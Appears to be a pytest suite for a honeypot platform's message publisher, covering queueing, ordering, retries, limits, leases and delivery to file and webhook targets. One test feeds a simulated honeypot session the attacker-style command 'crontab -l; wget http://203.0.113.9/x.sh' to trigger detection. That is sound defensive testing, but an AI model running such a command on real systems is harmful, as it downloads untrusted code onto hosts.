"""Messages on their way to other systems: stored, sent in order, tried again, bounded, and told once by several engines."""

from __future__ import annotations

import asyncio
import json
from collections.abc import AsyncIterator, Sequence
from pathlib import Path
from typing import Any

import pytest
import pytest_asyncio
from structlog.testing import capture_logs

from decnet.bus.base import Event
from decnet.bus.memory import Broker, MemoryBus
from decnet.config import BusSettings, NotifySettings, Settings
from decnet.db.repository import BaseRepository
from decnet.engine import Engine
from decnet.errors import ConfigError, DatabaseError
from decnet.publish_settings import PublishSettings
from decnet.runtime.notify import Notifier
from decnet.runtime.publish import publisher as module
from decnet.runtime.publish.messages import Message, NotDelivered
from decnet.runtime.publish.publisher import LEASE, MAX_UNSTORED, Publisher, Recent
from tests.clockkit import in_skipped_time, now
from tests.cowriegen import append_session
from tests.dbkit import KINDS, open_repo


@pytest_asyncio.fixture(params=KINDS)
async def repo(request: pytest.FixtureRequest, tmp_path: Path) -> AsyncIterator[BaseRepository]:
    async with open_repo(request.param, tmp_path) as opened:
        yield opened


class Target:
    """A channel that takes what it is told to."""

    def __init__(self) -> None:
        self.taken: list[str] = []
        self.trouble: NotDelivered | None = None
        self.rounds = 0

    async def send(self, messages: Sequence[Message]) -> None:
        self.rounds += 1
        ready = messages if self.trouble is None else messages[: self.trouble.taken]
        self.taken += [message.ident for message in ready]
        if self.trouble is not None:
            raise self.trouble

    async def close(self) -> None:
        pass


def made(
    repo: Any, bus: MemoryBus | None = None, topics: Sequence[str] = ("notice.>",), **more: Any
) -> tuple[Publisher, Target]:
    clock = more.pop("clock", lambda: 1000.0)
    target = {"kind": "file", "name": "soc", "path": "/nowhere", "topics": list(topics)}
    found = Publisher(PublishSettings(targets=[target], **more), repo, bus or MemoryBus("t"), clock)  # type: ignore[list-item]
    found._channels["soc"] = channel = Target()
    return found, channel


def message(number: int, topic: str = "notice.x") -> Message:
    return Message.of(topic, {"n": number}, float(number), f"m{number}")


async def test_messages_are_stored_and_leave_in_order_once_they_are_taken(repo: BaseRepository) -> None:
    publisher, target = made(repo, batch=2)
    for number in (1, 2, 3):
        await publisher.offer(message(number))
    await publisher.offer(message(2))
    await publisher.offer(message(9, "ttp.tagged"))
    assert await repo.publish_count("soc") == 3, (
        "one that is stored twice is one, and one that nobody asked for is none"
    )
    assert [row["ident"] for row in await repo.publish_take("soc", 2)] == ["m1", "m2"]
    assert await publisher.round("soc") is True
    assert await publisher.round("soc") is False
    assert target.taken == ["m1", "m2", "m3"]
    assert await repo.publish_count("soc") == 0
    assert publisher.figures() == {
        "publish_sent": 3, "publish_failed": 0, "publish_dropped": 0, "publish_given_up": 0, "publish_waiting": 0,
    }  # fmt: skip


async def test_what_was_not_taken_waits_and_another_engine_goes_on_with_it(repo: BaseRepository) -> None:
    publisher, target = made(repo)
    for number in (1, 2, 3):
        await publisher.offer(message(number))
    target.trouble = NotDelivered("away", taken=1)
    with pytest.raises(NotDelivered, match="away"):
        await publisher.round("soc")
    assert [row["ident"] for row in await repo.publish_take("soc", 9)] == ["m2", "m3"]
    after, again = made(repo)
    await after.round("soc")
    assert again.taken == ["m2", "m3"]


async def test_a_message_that_will_never_be_taken_holds_up_nobody(repo: BaseRepository) -> None:
    publisher, target = made(repo)
    for number in (1, 2, 3):
        await publisher.offer(message(number))
    target.trouble = NotDelivered("answer 400", taken=1, final=True)
    with capture_logs() as logged:
        await publisher.round("soc")
    target.trouble = None
    await publisher.round("soc")
    assert target.taken == ["m1", "m3"]
    assert publisher.figures()["publish_given_up"] == 1
    assert [entry["event"] for entry in logged] == ["message refused for good"]


async def test_what_waits_too_long_is_given_up_at_the_limit(repo: BaseRepository) -> None:
    at = [1000.0]
    publisher, target = made(repo, clock=lambda: at[0], keep_s=60.0)
    await publisher.offer(message(1))
    at[0] = 1000.001
    await publisher.offer(message(2))
    at[0] = 1060.0
    target.trouble = NotDelivered("away")
    with pytest.raises(NotDelivered):
        await publisher.round("soc")
    assert await repo.publish_count("soc") == 2, "exactly as old is kept"
    at[0] = 1060.0005
    with pytest.raises(NotDelivered):
        await publisher.round("soc")
    assert [row["ident"] for row in await repo.publish_take("soc", 9)] == ["m2"]
    assert publisher.figures()["publish_given_up"] == 1


async def test_so_many_wait_and_not_one_more(repo: BaseRepository) -> None:
    publisher, target = made(repo, max_waiting=2)
    for number in (1, 2, 3):
        await publisher.offer(message(number))
    assert await repo.publish_count("soc") == 2
    assert publisher.figures()["publish_dropped"] == 1
    await publisher.round("soc")
    await publisher.offer(message(4))
    assert await repo.publish_count("soc") == 1
    assert target.taken == ["m1", "m2"]


async def test_only_who_has_the_lease_sends(repo: BaseRepository) -> None:
    publisher, target = made(repo)
    await publisher.offer(message(1))
    assert await repo.lease_acquire("publish-soc", "somebody-else", 60.0)
    assert await publisher.round("soc") is False
    assert target.taken == []
    await repo.lease_release("publish-soc", "somebody-else")
    await publisher.round("soc")
    assert target.taken == ["m1"]


class Full:
    """A database that takes nothing, as one without room does."""

    def __init__(self) -> None:
        self.full = True
        self.rows: list[Any] = []
        self.leases: list[tuple[str, float]] = []
        self.mine = True

    def check(self) -> None:
        if self.full:
            raise DatabaseError("disk full")

    async def publish_add(self, rows: Sequence[Any], now: float) -> int:
        self.check()
        self.rows += rows
        return len(rows)

    async def publish_count(self, _: str) -> int:
        self.check()
        return len(self.rows)

    async def lease_acquire(self, name: str, owner: str, ttl_s: float) -> bool:
        self.check()
        self.leases.append((name, ttl_s))
        return self.mine


async def test_without_room_in_the_database_people_are_told_all_the_same() -> None:
    database = Full()
    publisher, target = made(database)
    with capture_logs():
        for number in range(MAX_UNSTORED + 1):
            await publisher.offer(message(number))
    assert publisher.figures() | {"publish_sent": 0} == {
        "publish_sent": 0, "publish_failed": 0, "publish_dropped": 1, "publish_given_up": 0, "publish_waiting": MAX_UNSTORED,
    }  # fmt: skip
    with pytest.raises(DatabaseError):
        await publisher.round("soc")
    assert target.taken == [f"m{number}" for number in range(MAX_UNSTORED)]
    target.trouble = NotDelivered("away")
    with capture_logs():
        await publisher.offer(message(7))
    with pytest.raises(NotDelivered):
        await publisher.round("soc")
    assert publisher.figures()["publish_waiting"] == 1, "kept for the next round"


@in_skipped_time
async def test_pauses_grow_and_a_target_is_left_alone_as_long_as_it_asks() -> None:
    database = Full()
    database.full = False
    publisher, _ = made(database, retry_s=5.0, retry_max_s=30.0)
    tries: list[float] = []

    async def round_(_: str) -> bool:
        tries.append(now() - 1000)
        raise NotDelivered("away", wait_s=100.0 if len(tries) == 6 else None)

    publisher.round = round_  # type: ignore[method-assign]
    task = asyncio.create_task(publisher._deliver("soc"))
    with capture_logs():
        await asyncio.sleep(300)
    task.cancel()
    await asyncio.gather(task, return_exceptions=True)
    assert tries == [0, 5, 15, 35, 65, 95, 195, 225, 255, 285]
    assert publisher.figures()["publish_failed"] == 10


def bus() -> MemoryBus:
    settings = BusSettings(type="memory")
    return MemoryBus(settings=settings, broker=Broker(settings))


@in_skipped_time
async def test_events_of_a_pattern_are_stored_once_by_the_engine_with_the_lease() -> None:
    database = Full()
    database.full = False
    wire = bus()
    await wire.connect()
    publisher, _ = made(database, wire, ["ttp.>", "ttp.tagged", "notice.>"])
    publisher._monotonic = asyncio.get_running_loop().time
    assert publisher.patterns() == ["ttp.>", "ttp.tagged"]
    tasks = [
        asyncio.create_task(body())
        for name, body in publisher.services().items()
        if not name.startswith("publish-to-")
    ]
    await asyncio.sleep(0.1)
    await wire.publish_events(
        [Event("ttp.tagged", {"a": 1}, id="e1"), Event("attacker.observed", {}, id="e2")]
    )
    await asyncio.sleep(0.1)
    assert [row[1] for row in database.rows] == ["e1"], "two patterns of a target cover it"
    assert database.leases == [(LEASE, 60.0)]
    await wire.publish_events([Event("ttp.tagged", {}, id="e3")])
    await asyncio.sleep(0.1)
    assert len(database.leases) == 1, "a lease that is held need not be asked for each event"
    await asyncio.sleep(31)
    database.mine = False
    await wire.publish_events([Event("ttp.tagged", {}, id="e4")])
    await asyncio.sleep(0.1)
    assert [row[1] for row in database.rows] == ["e1", "e3"], "another engine has it now"
    database.full = True
    await asyncio.sleep(1)
    with capture_logs():
        await wire.publish_events([Event("ttp.tagged", {}, id="e5")])
        await asyncio.sleep(0.1)
    assert publisher.figures()["publish_waiting"] >= 1, "without a database each speaks for itself"
    for task in tasks:
        task.cancel()
    await asyncio.gather(*tasks, return_exceptions=True)
    await wire.close()


def test_so_many_events_are_remembered() -> None:
    recent = Recent(2)
    assert [recent.is_new(ident) for ident in "aabcba"] == [True, False, True, True, False, True]


def test_the_id_of_a_notice_is_made_of_what_it_says() -> None:
    event = Event("ttp.tagged", {}, id="e1")
    first = Message.of_notice({"kind": "x", "technique_id": "T1"}, event)
    assert first == Message.of_notice({"kind": "x", "technique_id": "T1"}, event)
    assert first.topic == "notice.x"
    assert first.ident != Message.of_notice({"kind": "x", "technique_id": "T2"}, event).ident
    assert (
        first.ident
        != Message.of_notice({"kind": "x", "technique_id": "T1"}, Event("ttp.tagged", {}, id="e2")).ident
    )


async def test_the_notifier_tells_targets_what_it_tells_the_program(tmp_path: Path) -> None:
    async with open_repo("sqlite", tmp_path) as repo:
        publisher, target = made(repo)
        notifier = Notifier(NotifySettings(), repo, bus(), publisher=publisher)
        assert "notify-tell" not in notifier.services(), "no program, nothing to run"
        event = Event("canary.t.triggered", {"token_id": "t", "first_trip": True}, id="e1", ts=5.0)
        (said,) = notifier.messages(event)
        await notifier._tell(said, event)
        (row,) = await repo.publish_take("soc", 9)
        await publisher.round("soc")
    assert json.loads(row["body"])["payload"]["kind"] == "canary_first_trip"
    assert row["topic"] == "notice.canary_first_trip"
    assert len(target.taken) == 1


def test_a_ca_file_that_is_none_is_said_at_the_start(tmp_path: Path) -> None:
    target = {
        "kind": "webhook",
        "name": "soc",
        "url": "https://h/",
        "secret": "s" * 16,
        "tls_ca": tmp_path / "none.pem",
    }
    with pytest.raises(ConfigError, match="publish: target soc: its CA file cannot be used"):
        Publisher(PublishSettings(targets=[target]), None, bus())  # type: ignore[arg-type, list-item]


async def test_an_engine_tells_a_file_of_what_it_saw(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(module, "LOOK_S", 0.2)
    log, told = tmp_path / "cowrie.json", tmp_path / "told.jsonl"
    log.touch()
    targets = [{"kind": "file", "name": "soc", "path": told, "topics": ["notice.>", "ttp.session.judged"]}]
    engine = Engine(
        Settings(
            data_dir=tmp_path / "data", bus_type="memory", ttp_rule_store_type="filesystem", notify={"severity": "info"},
            workers=("sensors", "recorder", "ttp"), sensors=[{"kind": "cowrie", "path": log}], publish={"targets": targets},
        )
    )  # fmt: skip
    with capture_logs():
        await engine.start()
        try:
            append_session(log, "s1", ["crontab -l; wget http://203.0.113.9/x.sh"])
            async with asyncio.timeout(30):
                while not told.exists() or "session_severity" not in told.read_text("ascii"):
                    await asyncio.sleep(0.1)
        finally:
            await engine.stop()
    lines = [json.loads(line) for line in told.read_text("ascii").splitlines()]
    topics = {line["topic"] for line in lines}
    assert topics >= {"notice.technique_first_seen", "notice.session_severity", "ttp.session.judged"}
    assert len({line["id"] for line in lines}) == len(lines)
